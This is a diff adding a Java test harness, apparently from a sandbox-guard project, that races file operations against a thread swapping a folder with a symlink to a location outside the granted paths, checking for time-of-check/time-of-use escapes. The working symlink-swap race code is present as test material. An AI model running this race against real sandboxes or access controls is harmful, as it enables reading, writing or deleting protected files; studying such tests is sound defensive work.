@@ -1,0 +1,197 @@
+package dev.agentguard.apps.attacks;
+
+import java.io.File;
+import java.io.IOException;
+import java.nio.ByteBuffer;
+import java.nio.channels.SeekableByteChannel;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.DirectoryStream;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.SecureDirectoryStream;
+import java.nio.file.StandardOpenOption;
+import java.util.Set;
+import java.util.concurrent.atomic.AtomicBoolean;
+import java.util.concurrent.atomic.AtomicLong;
+
+/**
+ * The swap race of issue 13, item 4 (see {@link SwapRaceAttack}), against what the issue-13 review found
+ * still decided before the act on a path the kernel resolves again: a delete ({@code Files.delete},
+ * {@code File.delete}) and the opens and deletes of a {@code SecureDirectoryStream} (whose entry may name a
+ * folder below the stream's own, {@code d/file}). A second thread swaps {@code out/d} with the planted link
+ * {@code out/alt} to a folder outside the grants by four allowed renames.
+ *
+ * <p>Usage: {@code ChangeSwapAttack <out dir> <max attempts> <max millis> <kind>...}; kinds: {@code delete-nio},
+ * {@code delete-io}, {@code delete-sds}, {@code read-sds}, {@code write-nofollow},
+ * {@code move-nio}, {@code move-io} (a move of {@code d/file} into {@code out/}, read there), {@code copy-nio}
+ * (a copy into {@code out/}, read there), {@code mkdir-nio} ({@code d/made}), {@code chmod-nio} (mode 0777 on
+ * {@code d/file}). The test made {@code out/d/file} (harmless) and the
+ * outside {@code file} (the canary). Prints {@code RESULT <kind> attempts=N allowed=A denied=D missing=M
+ * swaps=S} and {@code LEAKED <kind> <content>} for a read of anything but the harmless content. Whether the
+ * outside file was deleted is checked from outside, by the test.
+ */
+public final class ChangeSwapAttack {
+    static final String HARMLESS = "harmless";
+    static final String WRITTEN = "written-by-the-race";
+
+    public static void main(String[] args) throws Exception {
+        Path out = Path.of(args[0]);
+        long maxAttempts = Long.parseLong(args[1]);
+        long maxMillis = Long.parseLong(args[2]);
+        for (int i = 3; i < args.length; i++) {
+            race(out, args[i], maxAttempts, maxMillis);
+        }
+    }
+
+    private static void race(Path out, String kind, long maxAttempts, long maxMillis) throws Exception {
+        long deadline = System.nanoTime() + maxMillis * 1_000_000L;
+        AtomicBoolean stop = new AtomicBoolean();
+        AtomicLong swaps = new AtomicLong();
+        long attempts = 0;
+        long allowed = 0;
+        long denied = 0;
+        long missing = 0;
+        try (DirectoryStream<Path> stream = Files.newDirectoryStream(out)) {
+            if (!(stream instanceof SecureDirectoryStream)) {
+                System.out.println("NO-SECURE-STREAM");
+                return;
+            }
+            @SuppressWarnings("unchecked")
+            SecureDirectoryStream<Path> sds = (SecureDirectoryStream<Path>) stream;
+            Thread swapper = new Thread(() -> swap(out, stop, swaps), "swapper");
+            swapper.start();
+            try {
+                for (; attempts < maxAttempts && System.nanoTime() < deadline; attempts++) {
+                    try {
+                        String read = attempt(kind, out, sds);
+                        if (read != null && !read.equals(HARMLESS) && !read.equals(WRITTEN)) {
+                            System.out.println("LEAKED " + kind + " " + read);
+                        }
+                        allowed++;
+                    } catch (SecurityException e) {
+                        denied++;
+                    } catch (IOException e) {
+                        missing++; // the folder was away between two renames, or the file was deleted already
+                    }
+                }
+            } finally {
+                stop.set(true);
+                swapper.join(10_000);
+                restore(out);
+            }
+        }
+        System.out.println("RESULT " + kind + " attempts=" + attempts + " allowed=" + allowed + " denied=" + denied
+                + " missing=" + missing + " swaps=" + swaps.get());
+    }
+
+    /** One act on {@code out/d/file}: a read returns what it read; a delete returns null. */
+    private static String attempt(String kind, Path out, SecureDirectoryStream<Path> sds) throws IOException {
+        Path relative = Path.of("d", "file");
+        switch (kind) {
+            case "delete-nio":
+                Files.delete(out.resolve(relative));
+                recreate(out);
+                return null;
+            case "delete-io":
+                if (!new File(out.resolve(relative).toString()).delete()) {
+                    throw new IOException("not deleted");
+                }
+                recreate(out);
+                return null;
+            case "delete-sds":
+                sds.deleteFile(relative);
+                recreate(out);
+                return null;
+            case "write-nofollow":
+                // A write that asks not to follow a last link: the guard decided it on a form resolved once
+                // more after the decision, so the swapped folder's file was written undecided.
+                try (java.io.OutputStream o = Files.newOutputStream(out.resolve(relative), StandardOpenOption.WRITE,
+                        StandardOpenOption.TRUNCATE_EXISTING, java.nio.file.LinkOption.NOFOLLOW_LINKS)) {
+                    o.write(WRITTEN.getBytes(StandardCharsets.UTF_8));
+                }
+                return null;
+            case "move-nio":
+            case "move-io": {
+                // Moves out/d/file into out/ (granted), reads it there, and moves it back.
+                Path moved = out.resolve("moved");
+                if (kind.equals("move-nio")) {
+                    Files.move(out.resolve(relative), moved);
+                } else if (!new File(out.resolve(relative).toString()).renameTo(new File(moved.toString()))) {
+                    throw new IOException("not renamed");
+                }
+                String content = Files.readString(moved);
+                Files.delete(moved);
+                recreate(out);
+                return content;
+            }
+            case "copy-nio": {
+                // Copies out/d/file to out/copied (granted), reads the copy.
+                Path copied = out.resolve("copied");
+                Files.copy(out.resolve(relative), copied, java.nio.file.StandardCopyOption.REPLACE_EXISTING);
+                return Files.readString(copied);
+            }
+            case "chmod-nio":
+                Files.setPosixFilePermissions(out.resolve(relative),
+                        java.nio.file.attribute.PosixFilePermissions.fromString("rwxrwxrwx"));
+                return null;
+            case "mkdir-nio":
+                Files.createDirectory(out.resolve("d").resolve("made"));
+                Files.delete(out.resolve("d").resolve("made"));
+                return null;
+            case "read-sds":
+                try (SeekableByteChannel channel = sds.newByteChannel(relative, Set.of(StandardOpenOption.READ))) {
+                    ByteBuffer buffer = ByteBuffer.allocate(256);
+                    channel.read(buffer);
+                    buffer.flip();
+                    return StandardCharsets.UTF_8.decode(buffer).toString();
+                }
+            default:
+                throw new IllegalArgumentException(kind);
+        }
+    }
+
+    /** Puts the harmless file back wherever {@code out/d} is the folder now (a write the guard pins). */
+    private static void recreate(Path out) {
+        for (String name : new String[] {"d", "tmp"}) {
+            Path folder = out.resolve(name);
+            if (Files.isDirectory(folder, java.nio.file.LinkOption.NOFOLLOW_LINKS)) {
+                try {
+                    Files.writeString(folder.resolve("file"), HARMLESS);
+                } catch (IOException | SecurityException e) {
+                    // the folder moved again; the next attempt may find the file missing
+                }
+            }
+        }
+    }
+
+    /** d -> tmp, alt -> d (the link is in place), d -> alt, tmp -> d: four allowed renames per round. */
+    private static void swap(Path out, AtomicBoolean stop, AtomicLong swaps) {
+        Path d = out.resolve("d");
+        Path tmp = out.resolve("tmp");
+        Path alt = out.resolve("alt");
+        while (!stop.get()) {
+            try {
+                Files.move(d, tmp);
+                Files.move(alt, d);
+                Thread.onSpinWait();
+                Files.move(d, alt);
+                Files.move(tmp, d);
+                swaps.incrementAndGet();
+            } catch (IOException | SecurityException e) {
+                System.out.println("SWAPPER " + e);
+                return;
+            }
+        }
+    }
+
+    /** Leaves {@code out/d} the folder and {@code out/alt} the link, however the swapper stopped. */
+    private static void restore(Path out) throws IOException {
+        Path d = out.resolve("d");
+        if (Files.isSymbolicLink(d)) {
+            Files.move(d, out.resolve("alt"));
+        }
+        if (Files.exists(out.resolve("tmp"))) {
+            Files.move(out.resolve("tmp"), d);
+        }
+    }
+}
